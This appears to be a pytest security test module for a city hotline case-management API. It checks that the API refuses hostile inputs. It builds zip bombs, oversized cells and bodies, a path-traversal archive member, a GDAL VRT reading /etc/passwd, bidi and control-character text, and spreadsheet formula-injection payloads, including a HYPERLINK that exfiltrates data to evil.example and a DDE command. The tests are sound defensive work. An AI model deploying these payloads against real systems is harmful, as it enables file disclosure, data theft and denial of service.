"""No input can hurt the server (issue 12): the hostile tester's reproducers, on both databases.

A 200 MB cell in a 200 KB XLSX, a zip bomb, a 1 M-character address, a 200 MB request body, formula text in
reports, a VRT disguised as a GeoPackage or GeoJSON, NUL / bidi / invisible-only titles and Arabic-Indic phone
digits. Time and memory bounds are generous (10x and more what is measured) and are measured in a subprocess."""

from __future__ import annotations

import csv
import io
import json
import random
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
import zipfile
from pathlib import Path
from unittest import mock
from urllib.parse import urlencode

import openpyxl
import pytest
import sqlalchemy as sa

from gridmap.boundaries.areas import load_index
from gridmap.errors import InvalidInput
from gridmap.locating.batch import locate_file
from gridmap.store import engine as storage
from gridmap.store.tables import Case
from gridmap_api.main import create_app
from gridmap_api.settings import Settings
from tests.conftest import api_client  # requests through the trusted gateway, as an admin unless told otherwise
from tests.helpers import inside

ROOT = Path(__file__).parents[2]
KEY = "limits-key-311"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEAD = ["工单编号", "来电时间", "来电人", "联系电话", "事发地址", "诉求内容", "问题分类", "经度", "纬度"]
DISPATCHER = {"X-User": "d1", "X-Role": "dispatcher"}
MB = 1024 * 1024


APP_SETTINGS = {"open311_api_keys": KEY, "escalation_interval_s": 3600}  # the module's `client` (tests/conftest.py)


# ------------------------------------------------------------------------------------------- hostile XLSX

PACKAGE = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="xl/workbook.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        "</Relationships>"
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="工单" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        '<Relationship Id="rId2" Target="sharedStrings.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
        "</Relationships>"
    ),
}


def _excel_like(rows, huge: str | None = None, write_huge=None) -> bytes:
    """An XLSX as Excel writes it: every text a shared string. The text `huge` stands for one written by
    `write_huge(member)` chunk by chunk: the test never holds it either."""
    strings: list[str] = []
    cells = []
    for i, row in enumerate(rows, start=1):
        xml = []
        for j, value in enumerate(row):
            ref = f"{chr(65 + j)}{i}"
            if isinstance(value, (int, float)):
                xml.append(f'<c r="{ref}"><v>{value}</v></c>')
            elif value:
                strings.append(str(value))
                xml.append(f'<c r="{ref}" t="s"><v>{len(strings) - 1}</v></c>')
        cells.append(f'<row r="{i}">{"".join(xml)}</row>')
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(cells)}</sheetData></worksheet>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, text in PACKAGE.items():
            target.writestr(name, text)
        target.writestr("xl/worksheets/sheet1.xml", sheet)
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            member.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst '
                b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            for text in strings:
                member.write(b"<si><t>")
                if text == huge:
                    write_huge(member)
                else:
                    member.write(text.replace("&", "&amp;").replace("<", "&lt;").encode())
                member.write(b"</t></si>")
            member.write(b"</sst>")
    return out.getvalue()


def _repeated(megabytes: int):
    chunk = ("东风街363号" * (MB // 15)).encode()[: MB - MB % 3]

    def write(member):
        for _ in range(megabytes):
            member.write(chunk)

    return write


def _random_letters(megabytes: int):
    letters = bytes(65 + i % 26 for i in range(256))  # random letters: deflate cannot squeeze them much
    rng = random.Random(7)

    def write(member):
        for _ in range(megabytes):
            member.write(rng.randbytes(MB).translate(letters))

    return write


def _measured(code: str, data_path: Path) -> dict:
    """Run `code` (which reads DATA and prints a JSON result) in a fresh interpreter; add its time and its peak
    memory above what the imports took."""
    script = (
        textwrap.dedent(f"""
        import json, resource, sys, time
        from pathlib import Path
        from gridmap.cases import hotline
        from gridmap.io import tabular
        from gridmap.errors import InvalidInput
        data = Path({str(data_path)!r}).read_bytes()
        base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.perf_counter()
        result = {{}}
    """)
        + textwrap.dedent(code)
        + textwrap.dedent("""
        result["seconds"] = time.perf_counter() - started
        result["extra_mb"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024
        print(json.dumps(result))
    """)
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_200_mb_cell_in_a_small_xlsx_is_refused_fast_and_small(client, tmp_path):
    """The reproducer: a ~200 KB XLSX holding one 200 MB address cell took the server to 21.7 GB."""
    rows = [HEAD, ["t1", "2026-11-18 10:00:00", "", "", "HUGE", "噪声", "E0101", "", ""]]
    data = _excel_like(rows, "HUGE", _repeated(200))
    assert len(data) < 1 * MB
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(data)
    measured = _measured(
        """
        try:
            hotline.read_export(data, "xlsx")
            result["refused"] = None
        except InvalidInput as exc:
            result["refused"] = exc.message
            result["field"] = exc.field
    """,
        path,
    )
    assert measured["field"] == "file" and "archive_too_large" in measured["refused"]
    # refused before anything was inflated: a 200 MB cell read would take over 200 MB (the time is in the message
    # only: a wall-clock limit fails on a busy machine and proves nothing the memory does not)
    assert measured["extra_mb"] < 100, measured
    r = client.post("/api/v1/imports/hotline", content=data, headers={**DISPATCHER, "Content-Type": XLSX})
    assert r.status_code == 422 and r.json()["field"] == "file" and "东风街363号东风街" not in r.text


def test_a_long_cell_that_is_no_zip_bomb_makes_its_row_invalid_and_the_others_are_imported(client, tmp_path):
    """8 MB of text that does not compress (so no archive limit stops it) in one cell: the cell is never held
    as text, its row is invalid with the field, the rows around it are imported."""
    prefix = uuid.uuid4().hex[:8]
    x, y = inside(client, 10)

    def row(t, desc):
        return [f"{prefix}-{t}", "2026-11-18 10:00:00", "", "", "", desc, "E0101", f"{x:.7f}", f"{y:.7f}"]

    data = _excel_like(
        [HEAD, row("before", "噪声扰民"), row("long", "LONG"), row("after", "路灯不亮")], "LONG", _random_letters(8)
    )
    path = tmp_path / "long.xlsx"
    path.write_bytes(data)
    measured = _measured(
        """
        frame = hotline.read_export(data, "xlsx")
        cell = frame.iloc[1, 5]
        result["cell"] = [type(cell).__name__, getattr(cell, "length", None)]
        result["longest"] = max(len(v) for v in frame.to_numpy().ravel() if isinstance(v, str))
    """,
        path,
    )
    assert measured["cell"][0] == "TooLong" and measured["cell"][1] > 8_000_000
    assert measured["longest"] < 100 and measured["extra_mb"] < 100, measured
    r = client.post("/api/v1/imports/hotline", content=data, headers={**DISPATCHER, "Content-Type": XLSX})
    assert r.status_code == 200, r.text
    report = {e["ticket"]: e for e in r.json()["report"]}
    assert report[f"{prefix}-long"]["status"] == "invalid" and report[f"{prefix}-long"]["field"] == "description"
    assert report[f"{prefix}-long"]["row"] == 3 and "at most 4,000" in report[f"{prefix}-long"]["reason"]
    assert report[f"{prefix}-before"]["status"] == report[f"{prefix}-after"]["status"] == "created"


def test_a_zip_bomb_and_unsafe_member_names_are_refused(client):
    for members in (
        {"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": b" " * (50 * MB)},
        {"[Content_Types].xml": b"<x/>", "../../etc/cron.d/x": b"x"},
    ):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, body in members.items():
                archive.writestr(name, body)
        r = client.post(
            "/api/v1/imports/hotline", content=buffer.getvalue(), headers={**DISPATCHER, "Content-Type": XLSX}
        )
        assert r.status_code == 422 and r.json()["field"] == "file"
        assert ("archive_too_large" in r.json()["detail"]) or ("unsafe_archive_member" in r.json()["detail"])


def test_hotline_rows_with_bad_text_are_invalid_with_their_field(client):
    prefix = uuid.uuid4().hex[:8]
    x, y = inside(client, 10)
    bad = {
        "nul": ("来电人", "张\x00三", "reporter_name"),
        "rtl": ("诉求内容", "井盖\u202e丢失", "description"),
        "phone": ("联系电话", "١٣٨٠٠١٣٨٠٠٠", "reporter_phone"),
        "addr": ("事发地址", "东" * 301, "address"),
    }
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEAD)
    for name, (column, value, _) in bad.items():
        row = dict(zip(HEAD, [f"{prefix}-{name}", "2026-11-18 10:00:00", "", "", "", "噪声", "E0101", x, y]))
        row[column] = value
        writer.writerow(row.values())
    r = client.post(
        "/api/v1/imports/hotline",
        content=buffer.getvalue().encode("utf-8"),
        headers={**DISPATCHER, "Content-Type": "text/csv"},
    )
    report = {e["ticket"]: e for e in r.json()["report"]}
    for name, (_, value, field) in bad.items():
        entry = report[f"{prefix}-{name}"]
        assert entry["status"] == "invalid" and entry["field"] == field, entry
        assert value not in entry["reason"]


# -------------------------------------------------------------------------------------------- formulas

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+SUM(1,2)", "@SUM(A1)", "-2+3", "=cmd|' /c calc'!A0"]


def test_formula_text_comes_out_as_text_in_csv_and_xlsx_reports(client):
    x, y = inside(client, 10)
    tickets = [f"{t}{uuid.uuid4().hex[:6]}" for t in FORMULAS]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEAD)
    for ticket in tickets:
        writer.writerow([ticket, "2026-11-18 10:00:00", "", "", "", "噪声", "E0101", x, y])
    data = buffer.getvalue().encode("utf-8")
    r = client.post(
        "/api/v1/imports/hotline?report=csv", content=data, headers={**DISPATCHER, "Content-Type": "text/csv"}
    )
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["ticket"] for row in rows] == ["'" + t for t in tickets]
    assert all(row["row"].isdigit() for row in rows)
    r = client.post(
        "/api/v1/imports/hotline?report=xlsx", content=data, headers={**DISPATCHER, "Content-Type": "text/csv"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == tickets and {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)
    assert all(row[0].data_type == "n" for row in sheet.iter_rows(min_row=2))  # the row number stays a number


def test_measures_exports_write_names_as_text(client):
    from gridmap.cases import measures

    with client.app.state.sessionmaker() as session:
        _, table = measures.measures(session, "grid")
    table.loc[table.index[0], "name"] = '=HYPERLINK("http://evil.example","x")'
    rows = list(csv.reader(io.StringIO(measures.export(table, "csv").decode("utf-8-sig"))))
    assert rows[1][2] == '\'=HYPERLINK("http://evil.example","x")'
    sheet = openpyxl.load_workbook(io.BytesIO(measures.export(table, "xlsx"))).active
    assert sheet["C2"].data_type == "s" and sheet["C2"].value.startswith("=HYPERLINK")
    assert sheet["D2"].data_type == "n"  # counts stay numbers


# --------------------------------------------------------------------------------------------- addresses


def test_a_million_character_address_is_refused_fast_and_never_echoed(client):
    huge = "东风街363号" * 150_000  # 1,050,000 characters
    form = {"api_key": KEY, "service_code": "E0101", "address_string": huge}
    # refused at the edge: the address matcher (45 s on this address before) is never reached
    with mock.patch("gridmap.locating.gazetteer.Gazetteer.match", side_effect=AssertionError("address matched")):
        r = client.post(
            "/open311/v2/requests.json",
            content=urlencode(form),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
    assert r.status_code == 400 and len(r.content) < 500 and "东风街363号东风街" not in r.text
    assert r.json()[0]["description"].startswith("address_string is 1,050,000 characters; at most 300")
    r = client.get("/api/v1/locate", params={"address": "东" * 5000})
    assert r.status_code == 422 and r.json()["field"] == "address" and "东东" not in r.text
    from gridmap.locating.locate import locate

    with client.app.state.sessionmaker() as session, pytest.raises(InvalidInput) as caught:
        locate(session, client.app.state.registry.current, address=huge)
    assert caught.value.field == "address"


# --------------------------------------------------------------------------------------- text and phones

BAD_TEXT = [
    ("title", "井盖\x00丢失", "title"),
    ("title", "\u202e失丢盖井", "title"),
    ("title", "\u200b\u200c\u200d\ufeff", "title"),
    ("description", "看这里\u2066隐藏\u2069", "description"),
    ("reporter_phone", "١٣٨٠٠١٣٨٠٠٠", "reporter_phone"),
    ("reporter_name", "张\x1b[31m三", "reporter_name"),
]


@pytest.mark.parametrize(("key", "value", "field"), BAD_TEXT)
def test_bad_text_is_refused_on_the_native_api(client, key, value, field):
    x, y = inside(client, 10)
    body = {"title": "井盖缺失", "lon": x, "lat": y, "category": "E0101", key: value}
    with client.app.state.sessionmaker() as session:
        before = session.scalar(sa.select(sa.func.count(Case.id)))
    r = client.post("/api/v1/cases", json=body)
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", r.text
    assert r.json()["field"] == field and value not in r.json()["detail"]
    with client.app.state.sessionmaker() as session:
        assert session.scalar(sa.select(sa.func.count(Case.id))) == before


OPEN311_BAD = [
    ("description", "井盖\x00丢失", "description"),
    ("description", "\u202e失丢盖井", "description"),
    ("address_string", "\u200b\u200b", None),  # invisible only: no location given at all
    ("first_name", "张\u2067三", "first_name"),
    ("phone", "١٣٨٠٠١٣٨٠٠٠", "phone"),
]


@pytest.mark.parametrize(("key", "value", "field"), OPEN311_BAD)
def test_bad_text_is_refused_on_open311_in_its_error_format(client, key, value, field):
    """Open311's errors are the spec's list of code and description with 400 for bad arguments (the module's
    convention); the description names the argument and never repeats the value."""
    x, y = inside(client, 10)
    form = {"api_key": KEY, "service_code": "E0101", "lat": y, "long": x, key: value}
    if key == "address_string":
        del form["lat"], form["long"]
    r = client.post(
        "/open311/v2/requests.json",
        content=urlencode(form),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 400, r.text
    description = r.json()[0]["description"]
    assert value not in description
    assert description.startswith(field) if field else "location is required" in description


def test_the_title_stored_is_nfc_and_clean_text_passes(client):
    x, y = inside(client, 10)
    r = client.post(
        "/api/v1/cases",
        json={
            "title": "Cafe\u0301 门口积水",
            "lon": x,
            "lat": y,
            "reporter_phone": "+86 138-0013-8000",
            "description": "第一行\r\n第二行",
        },
    )
    assert r.status_code == 201, r.text
    with client.app.state.sessionmaker() as session:
        case = session.get(Case, r.json()["id"])
        assert (case.title, case.reporter_phone, case.description) == ("Café 门口积水", "13800138000", "第一行\n第二行")


# ------------------------------------------------------------------------------------------- request body


def test_an_oversized_body_is_413_problem_json(db_url):
    settings = Settings(database_url=db_url, open311_api_keys=KEY, escalation_interval_s=3600, max_body_bytes=MB)
    with api_client(settings) as small:
        r = small.post(
            "/open311/v2/requests.json",
            content=b"a" * (MB + 1),
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert r.status_code == 413 and r.headers["content-type"] == "application/problem+json"
        body = r.json()
        assert body["code"] == "payload_too_large" and body["field"] == "body" and body["status"] == 413
        assert body["detail"] == "request body over the 1 MB limit"  # English: api_client asks for it
        zh = small.post(
            "/open311/v2/requests.json",
            content=b"a" * (MB + 1),
            headers={"Content-Type": "application/x-www-form-urlencoded", "Accept-Language": "zh-CN"},
        )
        assert zh.json()["detail"] == "请求体超过 1 MB 上限。" and zh.json()["title"] == "请求体过大"
        ok = small.post(
            "/open311/v2/requests.json",
            content=b"a" * 1000,
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert ok.status_code != 413


@pytest.fixture(scope="module")
def server(db_url):
    """The app served by uvicorn on a free loopback port (a TestClient reads the whole body before the app)."""
    import uvicorn

    settings = Settings(database_url=db_url, open311_api_keys=KEY, escalation_interval_s=3600)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = uvicorn.Config(create_app(settings), host="127.0.0.1", port=port, log_level="warning", lifespan="on")
    served = uvicorn.Server(config)
    thread = threading.Thread(target=served.run, daemon=True)
    thread.start()
    for _ in range(300):
        if served.started:
            break
        time.sleep(0.05)
    assert served.started
    yield port
    served.should_exit = True
    thread.join(timeout=10)


def _exchange(port: int, head: bytes, chunks=()) -> tuple[bytes, int]:
    """Send `head`, then `chunks` until the server stops reading; (the answer, bytes of body sent)."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(head)
        try:
            for chunk in chunks:
                conn.sendall(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = b""
        try:
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                answer += data
        except (TimeoutError, ConnectionResetError):
            pass
    return answer, sent


def test_a_200_mb_content_length_is_refused_before_a_byte_is_read(server):
    answer, _ = _exchange(
        server,
        b"POST /api/v1/cases HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
        b"Content-Length: 209715200\r\n\r\n",
    )
    status, _, body = answer.partition(b"\r\n\r\n")
    assert status.startswith(b"HTTP/1.1 413") and b"application/problem+json" in status
    assert json.loads(body)["detail"] == "请求体超过 25 MB 上限。"  # no Accept-Language: Chinese


def test_a_chunked_200_mb_body_is_cut_off_when_it_passes_the_limit(server):
    chunk = b"%x\r\n%s\r\n" % (MB, b"a" * MB)

    def body():
        for _ in range(200):
            yield chunk

    answer, sent = _exchange(
        server,
        b"POST /open311/v2/requests.json HTTP/1.1\r\nHost: t\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n",
        body(),
    )
    assert answer.startswith(b"HTTP/1.1 413") and b"payload_too_large" in answer
    assert sent < 60 * MB  # 25 MB read, then the connection closed (socket buffers take a little more)


# ------------------------------------------------------------------------------------------- GDAL files

VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="p"><SrcDataSource>CSV:/etc/passwd</SrcDataSource>'
    "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
)


@pytest.mark.parametrize("name", ["disguised.gpkg", "disguised.geojson"])
def test_a_vrt_disguised_as_gpkg_or_geojson_is_refused_by_locate_file(db_url, tmp_path, capsys, name):
    from gridmap.cli import main

    source = tmp_path / name
    source.write_text(VRT)
    target = tmp_path / "out.csv"
    assert main(["--database", db_url, "locate-file", str(source), str(target)]) == 2
    captured = capsys.readouterr()
    assert name in captured.err and "VRT" in captured.err and "unsupported_format" in captured.err
    assert not target.exists() and "root:" not in captured.out + captured.err


def test_gdal_reads_with_the_one_driver_only_and_refuses_virtual_paths(engine, tmp_path):
    from gridmap.io import gpkg as _gpkgio

    source = tmp_path / "disguised.gpkg"
    source.write_text(VRT)
    with pytest.raises(InvalidInput) as caught:  # even past the content check, GDAL has no VRT driver
        _gpkgio.read(source, "GPKG")
    assert caught.value.field == "file" and "root:" not in caught.value.message
    with storage.make_sessionmaker(engine)() as session:
        index = load_index(session)
        for path in ("/vsicurl/http://127.0.0.1:9/x.gpkg", "http://127.0.0.1:9/x.gpkg", "/dev/zero.csv"):
            with pytest.raises(InvalidInput) as caught:
                locate_file(path, tmp_path / "out.csv", index, session=session, show_progress=False)
            assert caught.value.field == "file"


def test_locate_file_round_trips_geojson_and_writes_formulas_as_text(engine, tmp_path):
    import geopandas as gpd
    import pandas as pd

    from gridmap.io import gpkg as _gpkgio

    with storage.make_sessionmaker(engine)() as session:
        index = load_index(session)
        p = index.leaf_geoms[3].representative_point()
        frame = gpd.GeoDataFrame(
            {"id": [-5], "note": ['=HYPERLINK("http://evil.example","x")']},
            geometry=gpd.points_from_xy([p.x], [p.y]),
            crs=4326,
        )
        _gpkgio.write(frame, tmp_path / "in.geojson", "GeoJSON")
        summary = locate_file(
            tmp_path / "in.geojson", tmp_path / "out.xlsx", index, session=session, show_progress=False
        )
        assert summary["located"] == 1
        locate_file(tmp_path / "in.geojson", tmp_path / "out.csv", index, session=session, show_progress=False)
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    headings = [c.value for c in sheet[1]]
    note = sheet.cell(2, headings.index("note") + 1)
    assert note.data_type == "s" and note.value.startswith("=HYPERLINK")
    assert sheet.cell(2, headings.index("id") + 1).value == -5  # a negative number stays a number
    out = pd.read_csv(tmp_path / "out.csv", dtype=str)
    assert out["note"][0].startswith("'=HYPERLINK") and out["id"][0] == "-5"
